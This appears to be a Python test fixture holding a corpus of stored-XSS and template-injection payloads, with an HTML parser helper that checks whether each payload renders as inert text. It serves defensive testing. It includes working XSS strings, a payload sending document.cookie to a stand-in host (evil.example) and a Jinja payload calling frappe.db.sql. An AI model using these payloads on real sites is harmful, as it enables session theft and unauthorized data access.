"""The stored-XSS corpus: what a resident (or anyone who types into a field) might submit, and how to tell
whether it came out as text or as live markup. Used by tests/unit/test_rules.py (the store-side cleaning)
and tests/integration/test_xss.py (every public page, print format, email and calendar file).

Each payload carries a marker ({m}) inside the part that would act if it were not escaped: in a tag's
name or attribute, in a script, or as the result of a template expression. A page is safe when the marker
shows only as text (`live_markup` finds it nowhere else) and no template expression was evaluated
(`evaluated`).
"""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = (
	# the example: an unclosed tag, which a browser still builds
	"水管 <img src=x onerror=alert('{m}')//",
	"路灯<img src=x onerror=alert('{m}') 不亮",
	"<svg/onload=alert('{m}')",
	'<img src="x" onerror="alert(\'{m}\')"',
	"<script>alert('{m}')</script>",
	"<ScRiPt >alert('{m}')</sCrIpT >",
	"<img src=x onerror=alert('{m}')>",
	"<svg onload=alert('{m}')>",
	"<svg><script>alert('{m}')</script></svg>",
	"<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
	'<svg><a xlink:href="javascript:alert(\'{m}\')"><text x="20" y="20">XSS</text></a></svg>',
	"<math><mtext><img src=x onerror=alert('{m}')></mtext></math>",
	# attributes and breaking out of them
	"\"><script>alert('{m}')</script>",
	"'><img src=x onerror=alert('{m}')>",
	"\" onmouseover=\"alert('{m}')",
	"' onfocus='alert(`{m}`)' autofocus='",
	"</title><script>alert('{m}')</script>",
	"</textarea><svg/onload=alert('{m}')>",
	"</h3><img src=x onerror=alert('{m}')><h3>",
	"<p onclick=alert('{m}')>点击这里",
	"<x onmouseover=alert('{m}')>悬停",
	"<input autofocus onfocus=alert('{m}')>",
	"<details open ontoggle=alert('{m}')>",
	"<body onload=alert('{m}')>",
	"<marquee onstart=alert('{m}')>滚动</marquee>",
	"<video><source onerror=alert('{m}')></video>",
	"<audio src=x onerror=alert('{m}')>",
	"<img src=x:alert(alt) onerror=eval(src) alt='{m}'>",
	"<img src=x onerror=&#97;lert('{m}')>",
	"<img src=x onerror=\"fetch('//evil.example/?'+document.cookie+'{m}')\">",
	"<div style=\"background:url(javascript:alert('{m}'))\">背景</div>",
	"<table background=\"javascript:alert('{m}')\"><tr><td>表</td></tr></table>",
	# javascript: links and other URL sinks
	"<a href=\"javascript:alert('{m}')\">点我</a>",
	"<a href=javascript:alert('{m}')>未闭合链接",
	"<a href=\"&#106;avascript:alert('{m}')\">实体链接</a>",
	"<iframe src=\"javascript:alert('{m}')\"></iframe>",
	"<object data=\"javascript:alert('{m}')\"></object>",
	"<embed src=\"javascript:alert('{m}')\">",
	"<form action=\"javascript:alert('{m}')\"><button>提交</button></form>",
	"<button formaction=javascript:alert('{m}')>按钮</button>",
	"<base href=\"javascript:alert('{m}')//\">",
	'<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
	"<link rel=stylesheet href=\"javascript:alert('{m}')\">",
	"<style>@import 'javascript:alert(\"{m}\")';</style>",
	"javascript:alert('{m}')",
	# parser confusion
	"<scr<script>ipt>alert('{m}')</script>",
	"<<script>alert('{m}');//<</script>",
	'<img """><script>alert(\'{m}\')</script>">',
	"<!--<img src=\"--><img src=x onerror=alert('{m}')//\">",
	"<![CDATA[<script>alert('{m}')</script>]]>",
	"&lt;script&gt;alert('{m}')&lt;/script&gt;",
	"%3Cscript%3Ealert('{m}')%3C/script%3E",
	# template syntax: must stay text, never be evaluated
	"{{{{ '{m}' ~ 'EVAL' }}}}",
	"{{% set x = '{m}' ~ 'EVAL' %}}{{{{ x }}}}",
	"{{{{ frappe.db.sql(\"select concat('{m}', 'EVAL')\") }}}}",
	"{{% for i in range(1) %}}{m}{{{{ 'EVAL' }}}}{{% endfor %}}",
	"{{% raw %}}{{{{ '{m}' ~ 'EVAL' }}}}{{% endraw %}}",
)


def payloads(tag: str) -> list[tuple[str, str]]:
	"""(marker, payload) pairs; markers are unique (tag + index) and plain letters and digits."""
	out = []
	for i, template in enumerate(PAYLOADS):
		marker = f"Q{tag}{i:02d}Z"
		out.append((marker, template.format(m=marker)))
	return out


URL_ATTRIBUTES = {
	"href",
	"src",
	"action",
	"formaction",
	"data",
	"xlink:href",
	"background",
	"srcdoc",
	"poster",
}


class _Finder(HTMLParser):
	"""Parses like a browser for what matters here: script and style hold code; title and textarea hold
	only text (RCDATA), whatever tags appear in them."""

	CDATA_CONTENT_ELEMENTS = ("script", "style", "title", "textarea")

	def __init__(self, markers):
		super().__init__(convert_charrefs=True)
		self.markers = markers
		self.live: set[str] = set()
		self.raw_text = ""

	def _check(self, text):
		for m in self.markers:
			if m in (text or ""):
				self.live.add(m)

	def handle_starttag(self, tag, attrs):
		self._check(tag)
		names = {(name or "").lower() for name, _value in attrs}
		handlers = any(n.startswith("on") for n in names)
		for name, value in attrs:
			name = (name or "").lower()
			self._check(name)
			# a value acts if it is code or a URL, if the tag has an event handler, or if it refreshes the page
			if (
				name.startswith("on")
				or name in URL_ATTRIBUTES
				or name == "style"
				or handlers
				or (tag == "meta" and "http-equiv" in names)
			):
				self._check(value)
		if tag in self.CDATA_CONTENT_ELEMENTS:
			self.raw_text = tag

	def handle_startendtag(self, tag, attrs):
		self.handle_starttag(tag, attrs)
		self.raw_text = ""

	def handle_endtag(self, tag):
		self._check(tag)
		if tag == self.raw_text:
			self.raw_text = ""

	def handle_data(self, data):
		if self.raw_text in ("script", "style"):
			self._check(data)


def live_markup(html: str, markers) -> set[str]:
	"""Markers found where markup acts in `html`: a tag's name, an attribute's name, an event handler, a URL,
	a style, a script; or any attribute of a tag that has an event handler."""
	finder = _Finder(list(markers))
	finder.feed(html or "")
	finder.close()
	return finder.live


def evaluated(text: str, markers) -> set[str]:
	"""Markers whose template expression was evaluated (its result, marker + EVAL, is in `text`)."""
	return {m for m in markers if f"{m}EVAL" in (text or "")}


def unsafe(html: str, markers) -> set[str]:
	return live_markup(html, markers) | evaluated(html, markers)
